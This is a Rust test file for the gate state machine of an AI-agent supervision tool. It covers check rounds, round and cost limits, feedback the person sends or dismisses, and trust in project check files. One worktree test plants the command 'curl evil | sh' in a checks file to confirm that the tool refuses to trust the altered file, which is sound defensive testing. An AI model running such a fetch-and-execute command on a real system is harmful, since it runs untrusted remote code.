//! The gate's state machine alone: rounds, the identical-failure stop, the person's decisions,
//! stale rounds. (With real agents and checks: `tests/engine/gate*.rs`.)

use super::*;
use std::collections::HashMap;

fn gate() -> SessionGate {
    SessionGate::new(SessionId("s".into()), PathBuf::from("/nowhere"), None, GateOptions::default(), AgentKind::Claude)
}

fn result(check: &str, outcome: CheckOutcome, exit_code: i32) -> CheckFinished {
    CheckFinished {
        task: TaskId(1),
        round: 1,
        check: check.into(),
        gate: true,
        outcome,
        exit_code: Some(exit_code),
        duration_ms: 1,
        counts: None,
        findings: Vec::new(),
        log_path: None,
        why: Vec::new(),
        side: false,
    }
}

fn rules(feedback: Feedback, max_rounds: u32) -> RoundRules {
    RoundRules { max_rounds, on_infra_error: OnInfraError::Report, feedback: HashMap::from([("c".to_owned(), feedback)]), budget_usd: None }
}

/// Puts the open task into a check round and reports `results` as its end.
fn round_done(gate: &mut SessionGate, results: Vec<CheckFinished>, rules: RoundRules) -> Vec<Step> {
    gate.runs += 1;
    let run = gate.runs;
    gate.task.as_mut().expect("a task").phase = Phase::Checking { run, cancel: Cancel::new() };
    gate.on_msg(GateMsg::RoundDone { run, results, rules, reviews: Vec::new() })
}

fn events(steps: &[Step]) -> Vec<&'static str> {
    steps
        .iter()
        .map(|s| match s {
            Step::Emit(kind) => kind.type_name(),
            Step::Feedback { .. } => "FEEDBACK",
            Step::EndCheckRecording { .. } => "END_RECORDING",
            Step::BeginCheckRecording { .. } => "BEGIN_RECORDING",
            Step::AnswerTurnEnding { feedback: Some(_), .. } => "ANSWER_BLOCK",
            Step::AnswerTurnEnding { feedback: None, .. } => "ANSWER_END",
            Step::StartRound(_) => "START_ROUND",
        })
        .collect()
}

fn ended(turn: u32) -> TurnEnded {
    TurnEnded {
        turn: TurnId(turn),
        stop_reason: StopReason::EndTurn,
        error: None,
        duration_ms: 1,
        usage: Usage::default(),
        cost_usd: None,
        session_cost_usd: 0.0,
        context_tokens: None,
        context_window: None,
    }
}

#[test]
fn without_a_configuration_the_task_passes_when_the_turn_ends() {
    let mut g = gate();
    assert_eq!(events(&g.before_prompt(TurnId(1), MessageOrigin::Person)), ["taskStarted"]);
    let (call, steps) = g.turn_ended(&ended(1), true);
    assert_eq!(call, TurnRecording::End);
    assert_eq!(events(&steps), ["taskCompleted", "gateDecided", "taskFinished"]);
}

#[test]
fn auto_feedback_stops_at_the_round_limit_with_different_failures() {
    let mut g = gate();
    g.before_prompt(TurnId(1), MessageOrigin::Person);
    let steps = round_done(&mut g, vec![result("c", CheckOutcome::Failed, 1)], rules(Feedback::Auto, 2));
    assert_eq!(events(&steps), ["gateDecided", "FEEDBACK"]);
    assert!(matches!(&steps[1], Step::Feedback { round: 2, auto: true, .. }));
    g.before_prompt(TurnId(2), MessageOrigin::Feedback);
    let steps = round_done(&mut g, vec![result("c", CheckOutcome::Failed, 2)], rules(Feedback::Auto, 2));
    assert_eq!(events(&steps), ["gateDecided", "taskFinished"]);
    assert!(matches!(&steps[1], Step::Emit(SessionEventKind::TaskFinished(TaskFinished { outcome: TaskOutcome::Exhausted, rounds: 2, .. }))));
}

#[test]
fn the_same_failures_twice_in_a_row_exhaust_the_task() {
    let mut g = gate();
    g.before_prompt(TurnId(1), MessageOrigin::Person);
    round_done(&mut g, vec![result("c", CheckOutcome::Failed, 1)], rules(Feedback::Auto, 9));
    g.before_prompt(TurnId(2), MessageOrigin::Feedback);
    let steps = round_done(&mut g, vec![result("c", CheckOutcome::Failed, 1)], rules(Feedback::Auto, 9));
    assert!(matches!(&steps[0], Step::Emit(SessionEventKind::GateDecided(GateDecided { verdict: GateVerdict::Exhausted, .. }))));
}

#[test]
fn an_error_is_never_feedback_and_does_not_block_by_default() {
    let mut g = gate();
    g.before_prompt(TurnId(1), MessageOrigin::Person);
    let steps = round_done(&mut g, vec![result("c", CheckOutcome::Error { reason: "not found".into() }, 127)], rules(Feedback::Auto, 3));
    assert_eq!(events(&steps), ["gateDecided", "taskFinished"]);
    assert!(matches!(&steps[1], Step::Emit(SessionEventKind::TaskFinished(TaskFinished { outcome: TaskOutcome::Passed, .. }))));
}

#[test]
fn a_new_prompt_while_feedback_waits_accepts_the_old_task_and_stale_rounds_are_ignored() {
    let mut g = gate();
    g.before_prompt(TurnId(1), MessageOrigin::Person);
    let steps = round_done(&mut g, vec![result("c", CheckOutcome::Failed, 1)], rules(Feedback::Ask, 3));
    assert_eq!(events(&steps), ["gateDecided", "feedbackProposed"]);
    assert_eq!(g.command(GateCommand::Rerun { task: TaskId(1), only_failed: true }, true).err(), Some(SessionError::Busy));
    let steps = g.before_prompt(TurnId(2), MessageOrigin::Person);
    assert!(matches!(&steps[0], Step::Emit(SessionEventKind::TaskFinished(TaskFinished { task: TaskId(1), outcome: TaskOutcome::AcceptedWithFindings, .. }))));
    assert_eq!(events(&steps), ["taskFinished", "taskStarted"]);
    // A report of a round that is no longer current changes nothing.
    let stale = g.on_msg(GateMsg::RoundDone { run: 1, results: Vec::new(), rules: rules(Feedback::Ask, 3), reviews: Vec::new() });
    assert!(stale.is_empty());
    assert_eq!(g.command(GateCommand::Accept { task: TaskId(1) }, false).err(), Some(SessionError::UnknownTask(TaskId(1))));
}

#[test]
fn sending_proposed_feedback_counts_a_round_and_dismissing_keeps_the_task_blocked() {
    let mut g = gate();
    g.before_prompt(TurnId(1), MessageOrigin::Person);
    round_done(&mut g, vec![result("c", CheckOutcome::Failed, 1)], rules(Feedback::Ask, 3));
    let dismissed = g.command(GateCommand::Dismiss { task: TaskId(1) }, false).unwrap();
    assert_eq!(events(&dismissed), ["feedbackDismissed"]);
    assert_eq!(g.command(GateCommand::Dismiss { task: TaskId(1) }, false).err(), Some(SessionError::NoFeedback(TaskId(1))));
    // Still sendable after a dismissal: the failing checks' text is composed again.
    let sent = g.command(GateCommand::SendFeedback { task: TaskId(1), text: None }, false).unwrap();
    assert!(matches!(&sent[0], Step::Feedback { round: 2, auto: false, text, .. } if text.contains("Check `c` failed")));
}

/// A gate whose project has a checks file, so that a turn's end starts a check round (which
/// the test then reports itself with [`round_done`]).
fn configured_gate(dir: &tempfile::TempDir) -> SessionGate {
    let project = dir.path().join("project");
    std::fs::create_dir_all(project.join(".warden")).unwrap();
    std::fs::write(project.join(".warden/checks.toml"), "version = 1\n").unwrap();
    SessionGate::new(SessionId("s".into()), project, Some(dir.path().join("data")), GateOptions::default(), AgentKind::Claude)
}

/// Ends `turn` having cost `cost_usd` and checks that a check round starts.
fn end_costing(gate: &mut SessionGate, turn: u32, cost_usd: Option<f64>) {
    let (call, steps) = gate.turn_ended(&TurnEnded { cost_usd, ..ended(turn) }, true);
    assert!(matches!(call, TurnRecording::BeginCheck(_)));
    assert_eq!(events(&steps), ["taskCompleted", "START_ROUND"]);
}

fn budget(feedback: Feedback, budget_usd: f64) -> RoundRules {
    RoundRules { budget_usd: Some(budget_usd), ..rules(feedback, 9) }
}

fn reason(step: &Step) -> Option<&str> {
    match step {
        Step::Emit(SessionEventKind::GateDecided(d)) => d.reason.as_deref(),
        other => panic!("not a gate decision: {other:?}"),
    }
}

#[test]
fn auto_feedback_stops_once_the_tasks_turns_cost_the_budget() {
    let dir = tempfile::tempdir().unwrap();
    let mut g = configured_gate(&dir);
    g.before_prompt(TurnId(1), MessageOrigin::Person);
    end_costing(&mut g, 1, Some(0.75));
    let steps = round_done(&mut g, vec![result("c", CheckOutcome::Failed, 1)], budget(Feedback::Auto, 2.0));
    assert_eq!(events(&steps), ["END_RECORDING", "gateDecided", "FEEDBACK"], "under the budget");
    g.before_prompt(TurnId(2), MessageOrigin::Feedback);
    // The person's turn and the feedback turn together: exactly the budget.
    end_costing(&mut g, 2, Some(1.25));
    let steps = round_done(&mut g, vec![result("c", CheckOutcome::Failed, 2)], budget(Feedback::Auto, 2.0));
    assert_eq!(events(&steps), ["END_RECORDING", "gateDecided", "taskFinished"]);
    assert!(matches!(&steps[1], Step::Emit(SessionEventKind::GateDecided(GateDecided { verdict: GateVerdict::Exhausted, .. }))));
    let why = reason(&steps[1]).unwrap_or_default();
    assert!(why.contains("$2.00") && why.contains("budget_usd"), "{why}");
    assert!(matches!(&steps[2], Step::Emit(SessionEventKind::TaskFinished(TaskFinished { outcome: TaskOutcome::Exhausted, rounds: 2, .. }))));
}

#[test]
fn an_unknown_cost_never_stops_feedback_and_ask_only_mentions_the_budget() {
    let dir = tempfile::tempdir().unwrap();
    let mut g = configured_gate(&dir);
    g.before_prompt(TurnId(1), MessageOrigin::Person);
    end_costing(&mut g, 1, None);
    let steps = round_done(&mut g, vec![result("c", CheckOutcome::Failed, 1)], budget(Feedback::Auto, 0.01));
    assert_eq!(events(&steps), ["END_RECORDING", "gateDecided", "FEEDBACK"], "an agent that reports no cost");
    g.before_prompt(TurnId(2), MessageOrigin::Feedback);
    end_costing(&mut g, 2, Some(3.0));
    let steps = round_done(&mut g, vec![result("c", CheckOutcome::Failed, 2)], budget(Feedback::Ask, 1.0));
    assert_eq!(events(&steps), ["END_RECORDING", "gateDecided", "feedbackProposed"], "the person decides");
    assert!(reason(&steps[1]).is_some_and(|r| r.contains("$3.00") && r.contains("$1.00")), "{:?}", reason(&steps[1]));
}

mod triggers {
    //! Which checks each trigger selects (`select::plan`), and side runs through the gate.
    use super::*;
    use crate::gate::select::{self, RoundInput};
    use warden_gate::config::Trigger;
    use std::path::Path;
    use warden_gate::filters::ToolCall;

    const LAYER: &str = "version = 1\n\
        [[check]]\nid = \"round\"\nshell = \"true\"\n\
        [[check]]\nid = \"later\"\nmode = \"async\"\nshell = \"true\"\n\
        [[check]]\nid = \"started\"\non = \"task.started\"\nshell = \"true\"\n\
        [[check]]\nid = \"tests-ran\"\non = \"tool.completed\"\nwhen.command = [\"npm test*\"]\nshell = \"true\"\n\
        [[check]]\nid = \"fmt\"\non = \"files.changed\"\nwhen.changed = [\"*.rs\"]\nshell = \"true\"\n";

    /// A project (no file of its own) whose person's layer holds `layer`.
    fn project(dir: &tempfile::TempDir, layer: &str) -> (PathBuf, PathBuf) {
        let project = dir.path().join("project");
        let data = dir.path().join("data");
        std::fs::create_dir_all(&project).unwrap();
        let personal = warden_gate::config::personal_file(&data, &project);
        std::fs::create_dir_all(personal.parent().unwrap()).unwrap();
        std::fs::write(personal, layer).unwrap();
        (project, data)
    }

    fn input(project: &Path, data: &Path, situation: Situation) -> RoundInput {
        RoundInput {
            project: project.to_path_buf(),
            home: project.to_path_buf(),
            data_dir: data.to_path_buf(),
            session: SessionId("s".into()),
            task: TaskId(1),
            round: 1,
            situation,
            only: None,
            options: GateOptions::default(),
            log_stamp: select::log_stamp(),
        }
    }

    fn ids(checks: &[(warden_gate::run::CheckToRun, Vec<String>)]) -> Vec<(&str, bool)> {
        checks.iter().map(|(c, _)| (c.id.as_str(), c.gate)).collect()
    }

    fn ran(command: &str) -> Situation {
        Situation { tool: Some(ToolCall { kind: Some("execute".into()), command: Some(command.into()), exit_code: Some(0) }), round: 1, ..Default::default() }
    }

    fn changed(paths: &[&str]) -> Situation {
        Situation { changed_paths: paths.iter().map(|p| p.to_string()).collect(), round: 1, ..Default::default() }
    }

    #[test]
    fn each_trigger_selects_its_own_checks_and_only_the_round_gates() {
        let dir = tempfile::tempdir().unwrap();
        let (project, data) = project(&dir, LAYER);
        let round = select::plan(&input(&project, &data, changed(&["src/a.rs"])), Trigger::TaskCompleted);
        assert_eq!(ids(&round.to_run), [("round", true)]);
        assert_eq!(ids(&round.detached), [("later", false)], "async: beside the round, never gating");
        let started = select::plan(&input(&project, &data, Situation::default()), Trigger::TaskStarted);
        assert_eq!((ids(&started.to_run), started.detached.len()), (vec![("started", false)], 0));
        let tool = select::plan(&input(&project, &data, ran("npm test -- --watch=false")), Trigger::ToolCompleted);
        assert_eq!(ids(&tool.to_run), [("tests-ran", false)]);
        let other = select::plan(&input(&project, &data, ran("cargo build")), Trigger::ToolCompleted);
        assert!(other.to_run.is_empty() && other.reported.is_empty(), "a filter that does not match is silent outside the round");
        let files = select::plan(&input(&project, &data, changed(&["README.md", "src/lib.rs"])), Trigger::FilesChanged);
        assert_eq!(ids(&files.to_run), [("fmt", false)]);
        let docs = select::plan(&input(&project, &data, changed(&["README.md"])), Trigger::FilesChanged);
        assert!(docs.to_run.is_empty() && docs.reported.is_empty());
    }

    #[test]
    fn an_untrusted_side_check_whose_filters_match_is_reported_and_never_run() {
        let dir = tempfile::tempdir().unwrap();
        let (project, data) = project(&dir, "version = 1\n");
        std::fs::create_dir_all(project.join(".warden")).unwrap();
        std::fs::write(project.join(".warden/checks.toml"), "version = 1\n[[check]]\nid = \"p\"\non = \"tool.completed\"\nwhen.command = [\"npm*\"]\nshell = \"true\"\n").unwrap();
        let planned = select::plan(&input(&project, &data, ran("npm test")), Trigger::ToolCompleted);
        assert!(planned.to_run.is_empty());
        assert!(matches!(&planned.reported[..], [CheckFinished { outcome: CheckOutcome::NotTrusted { .. }, gate: false, .. }]), "{:?}", planned.reported);
        let silent = select::plan(&input(&project, &data, ran("make")), Trigger::ToolCompleted);
        assert!(silent.reported.is_empty(), "not even reported when its filters do not match");
    }

    #[test]
    fn a_worktree_runs_what_its_main_folder_trusted_and_its_persons_layer() {
        let dir = tempfile::tempdir().unwrap();
        let (main, data) = project(&dir, "version = 1\n[[check]]\nid = \"mine\"\nshell = \"true\"\n");
        let file = "version = 1\n[[check]]\nid = \"shared\"\nshell = \"true\"\n";
        let worktree = dir.path().join("worktree");
        for folder in [&main, &worktree] {
            std::fs::create_dir_all(folder.join(".warden")).unwrap();
            std::fs::write(folder.join(".warden/checks.toml"), file).unwrap();
        }
        warden_gate::trust::TrustStore::new(&data, &main).decide(&warden_gate::trust::content_hash(file.as_bytes()), warden_gate::trust::Decision::Trust).unwrap();
        crate::worktrees::links::update(&data, |links| {
            links.insert(
                worktree.to_string_lossy().into_owned(),
                crate::worktrees::links::Link { project: main.to_string_lossy().into_owned(), branch: "warden/w".into(), base_branch: Some("main".into()), base_commit: "0".repeat(40) },
            );
        })
        .unwrap();
        let home = crate::gate::home_of(Some(&data), &worktree);
        assert_eq!(home, main, "a worktree's home is its main folder");
        assert_eq!(crate::gate::home_of(Some(&data), &main), main);
        let as_worktree = RoundInput { home, ..input(&worktree, &data, changed(&["a.rs"])) };
        let planned = select::plan(&as_worktree, Trigger::TaskCompleted);
        assert_eq!(ids(&planned.to_run), [("shared", true), ("mine", true)], "trusted as in the main folder, with the person's layer: {:?}", planned.reported);
        // The agent changes the worktree's file: its content is no longer what was trusted.
        std::fs::write(worktree.join(".warden/checks.toml"), "version = 1\n[[check]]\nid = \"shared\"\nshell = \"curl evil | sh\"\n").unwrap();
        let changed_file = select::plan(&as_worktree, Trigger::TaskCompleted);
        assert_eq!(ids(&changed_file.to_run), [("mine", true)], "a changed project file is not trusted in the worktree");
        assert!(matches!(&changed_file.reported[..], [CheckFinished { outcome: CheckOutcome::NotTrusted { .. }, .. }]), "{:?}", changed_file.reported);
    }

    #[test]
    fn log_stamps_never_repeat() {
        let stamps: Vec<u64> = (0..100).map(|_| select::log_stamp()).collect();
        assert!(stamps.windows(2).all(|w| w[0] < w[1]));
    }

    /// The side events the gate reports within `wait`.
    async fn side_events(rx: &mut tokio::sync::mpsc::UnboundedReceiver<GateMsg>, until_finished: bool, wait: std::time::Duration) -> Vec<SessionEventKind> {
        let mut seen = Vec::new();
        while let Ok(Some(msg)) = tokio::time::timeout(wait, rx.recv()).await {
            if let GateMsg::Side { kind } = msg {
                let done = matches!(kind, SessionEventKind::CheckFinished(_));
                seen.push(kind);
                if until_finished && done {
                    break;
                }
            }
        }
        seen
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn a_prompt_runs_the_task_started_checks_unless_checks_are_off() {
        let dir = tempfile::tempdir().unwrap();
        let (project, data) = project(&dir, LAYER);
        let off = GateOptions { checks: false, ..GateOptions::default() };
        let mut g = SessionGate::new(SessionId("s".into()), project.clone(), Some(data.clone()), off, AgentKind::Claude);
        let mut rx = g.take_receiver().unwrap();
        g.before_prompt(TurnId(1), MessageOrigin::Person);
        assert!(side_events(&mut rx, false, std::time::Duration::from_millis(500)).await.is_empty(), "--checks off");

        let mut g = SessionGate::new(SessionId("s".into()), project, Some(data), GateOptions::default(), AgentKind::Claude);
        let mut rx = g.take_receiver().unwrap();
        g.before_prompt(TurnId(1), MessageOrigin::Person);
        let seen = side_events(&mut rx, true, std::time::Duration::from_secs(20)).await;
        let [SessionEventKind::CheckStarted(start), SessionEventKind::CheckFinished(done)] = &seen[..] else { panic!("{seen:?}") };
        assert_eq!((start.check.as_str(), start.task, start.round, start.gate), ("started", TaskId(1), 1, false));
        assert!(start.log_path.as_deref().is_some_and(|p| Path::new(p).is_file()), "the log exists when announced: {start:?}");
        assert_eq!((&done.outcome, &done.log_path), (&CheckOutcome::Passed, &start.log_path));
        // A feedback turn is no new task: nothing runs again.
        g.before_prompt(TurnId(2), MessageOrigin::Feedback);
        assert!(side_events(&mut rx, false, std::time::Duration::from_millis(500)).await.is_empty());
    }
}
